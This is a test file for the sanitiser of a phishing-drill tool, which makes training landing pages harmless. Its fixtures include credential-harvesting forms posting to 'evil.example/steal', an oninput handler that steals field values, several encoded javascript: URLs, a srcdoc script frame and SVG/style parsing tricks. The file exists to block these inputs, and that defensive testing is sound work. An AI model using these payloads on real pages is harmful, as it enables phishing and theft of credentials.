import { describe, expect, it } from 'vitest';
import { LandingError, sanitiseLanding } from '../../src/phishing/landing.js';

const action = 'https://drills.example.org/s/abc123';

describe('sanitising a landing page', () => {
  it('strips field names, points the form at the tracking action and adds noindex, warning for each change', () => {
    const html = [
      '<html><head><title>Sign in</title></head><body>',
      '<form action="https://evil.example/steal" method="get">',
      '  <input type="password" name="password">',
      '  <button name="go" type="submit">Go</button>',
      '</form></body></html>',
    ].join('\n');
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: action });
    expect(safe).toBe(
      [
        '<html><head><meta name="robots" content="noindex"><title>Sign in</title></head><body>',
        `<form action="${action}" method="post">`,
        '  <input type="password">',
        '  <button type="submit">Go</button>',
        '</form></body></html>',
      ].join('\n'),
    );
    expect(warnings.map((warning) => `${warning.line}:${warning.column} ${warning.message}`)).toEqual([
      '1:13 <meta name="robots" content="noindex"> added: lures are never indexed',
      '2:7 <form> action="https://evil.example/steal" replaced: forms post to the tracking action only',
      '2:43 <form> method="get" replaced: forms post to the tracking action only',
      '3:26 <input> name="password" removed: field values never leave the browser',
      '4:11 <button> name="go" removed: field values never leave the browser',
    ]);
  });

  it('handles uppercase tags, unquoted and single-quoted attributes, and self-closing fields', () => {
    const html =
      '<FORM ACTION=/x><INPUT TYPE=text NAME=user><SELECT Name=\'c\'><option>a</option></SELECT><TextArea nAmE="t"></TextArea><input name=p /></FORM>';
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: '/s/1' });
    expect(safe).toBe(
      '<meta name="robots" content="noindex"><FORM action="/s/1" method="post"><INPUT TYPE="text"><SELECT><option>a</option></SELECT><TextArea></TextArea><input /></FORM>',
    );
    expect(warnings.filter((warning) => warning.message.includes('removed'))).toHaveLength(4);
  });

  it('leaves "name" inside another attribute value and in text alone', () => {
    const html =
      '<input placeholder="your name=here" data-x=\'a name=p\' value=name title="a\nname=q"><p>name="x"</p><textarea><input name="inside"></textarea>';
    const { html: safe, warnings } = sanitiseLanding(html, { trackingAction: action });
    expect(safe).toBe(`<meta name="robots" content="noindex">${html}`);
    expect(warnings).toHaveLength(1);
  });

  it('removes every attribute that would send the form elsewhere', () => {
    const { html } = sanitiseLanding('<form><button formaction="https://evil.example" formmethod=get name=b>x</button></form>', {
      trackingAction: action,
    });
    expect(html).toBe(`<meta name="robots" content="noindex"><form action="${action}" method="post"><button>x</button></form>`);
  });

  it('rewrites the attributes it keeps so nothing added next to them is read into them', () => {
    const sanitised = (html: string): string => sanitiseLanding(html, { trackingAction: '/s/t' }).html.replace(/^<meta[^>]*>/, '');
    expect(sanitised('<form title=>')).toBe('<form title="" action="/s/t" method="post">');
    expect(sanitised('<form title= method=get>')).toBe('<form title="method=get" action="/s/t" method="post">'); // as browsers read it
    expect(sanitised('<form hidden =x method=get>')).toBe('<form hidden="x" action="/s/t" method="post">');
    expect(sanitised("<input name=a value='unclosed")).toBe('<input value="unclosed">');
    expect(sanitised('<input required =v name="x">')).toBe('<input required="v">');
  });

  it('keeps an existing noindex and puts a new one after the doctype', () => {
    expect(sanitiseLanding('<meta name="ROBOTS" content="noindex, nofollow"><p>x</p>', { trackingAction: action }).warnings).toEqual([]);
    expect(sanitiseLanding('<!doctype html><p>x</p>', { trackingAction: action }).html).toBe(
      '<!doctype html><meta name="robots" content="noindex"><p>x</p>',
    );
  });

  it('refuses scripts from other origins with their position, and keeps same-origin ones', () => {
    const html = '<p>x</p>\n<SCRIPT SRC="https://cdn.example.net/k.js"></SCRIPT><script src=//evil.example/a.js></script>';
    try {
      sanitiseLanding(html, { trackingAction: action, origin: 'https://drills.example.org' });
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(LandingError);
      expect((error as LandingError).problems.map((problem) => `${problem.line}:${problem.column}`)).toEqual(['2:9', '2:61']);
    }
    const kept = '<script src="/app.js"></script><script src="https://drills.example.org/b.js"></script>';
    expect(sanitiseLanding(kept, { trackingAction: action, origin: 'https://drills.example.org' }).html).toContain(kept);
  });

  it('refuses a tracking action that is not http(s) or a path', () => {
    expect(() => sanitiseLanding('<form></form>', { trackingAction: 'javascript:x' })).toThrow(/trackingAction/);
  });

  it('does not take a style body, a textarea or a comment for tags', () => {
    const html = '<style>a<b {}</style><textarea><input name=x></textarea><!-- <input name="y"> -->';
    expect(sanitiseLanding(html, { trackingAction: action }).html).toBe(`<meta name="robots" content="noindex">${html}`);
  });

  it('ends comments where browsers do, so a field after <!--> is still seen', () => {
    for (const opener of ['<!-->', '<!--->', '<!-- a --!>']) {
      const { html } = sanitiseLanding(`${opener}<input name="password"> -->`, { trackingAction: action });
      expect(html).not.toContain('name="password"');
    }
  });

  it('refuses inline scripts, event handlers and javascript: URLs, each with its position', () => {
    const html = '<script>fetch("/x")</script>\n<input oninput="steal(this.value)">\n<a HREF=" JavaScript:go()">x</a>';
    try {
      sanitiseLanding(html, { trackingAction: action });
      expect.unreachable();
    } catch (error) {
      expect((error as LandingError).problems.map((problem) => `${problem.line}:${problem.column} ${problem.message}`)).toEqual([
        "1:1 inline <script> refused: it could read what is typed and send it (serve it from the page's origin)",
        '2:8 <input> oninput= refused: no script runs on a landing page (an event handler)',
        '3:4 <a> href= refused: no script runs on a landing page (a script URL)',
      ]);
    }
  });

  it('sees script URLs however they are encoded, and refuses srcdoc frames', () => {
    for (const html of [
      '<a href="&#106;avascript:go()">x</a>',
      '<a href="&#x6A;avascript&colon;go()">x</a>',
      '<a href="java\tscript:go()">x</a>',
      '<a href="JAVASCRIPT&#58;go()">x</a>',
      '<svg><a><animate attributeName="href" values="https://x;javascript:go()"/></a></svg>',
      '<iframe srcdoc="<script>parent.document</script>"></iframe>',
      '<object data=" vbscript:x"></object>',
    ])
      expect(() => sanitiseLanding(html, { trackingAction: action }), html).toThrow(LandingError);
    expect(sanitiseLanding('<a href="https://example.org/javascript:notes">x</a>', { trackingAction: action }).warnings).toHaveLength(1);
  });

  it('refuses markup hidden in <style> on a page with <svg>, where browsers read it as tags', () => {
    const html = '<svg><style></svg><input name="password"></style></svg>';
    expect(() => sanitiseLanding(html, { trackingAction: action })).toThrow(/markup inside <style> on a page with <svg> or <math>/);
    expect(sanitiseLanding('<svg><style>.a{fill:red}</style></svg>', { trackingAction: action }).warnings).toHaveLength(1);
  });

  it('removes <base>, which would send a relative tracking action elsewhere', () => {
    const { html, warnings } = sanitiseLanding('<head><base href="https://evil.example/"></head><form></form>', { trackingAction: '/s/1' });
    expect(html).toBe('<head><meta name="robots" content="noindex"></head><form action="/s/1" method="post"></form>');
    expect(warnings.map((warning) => warning.message)).toContain('<base> removed: it would move the tracking action elsewhere');
  });
});
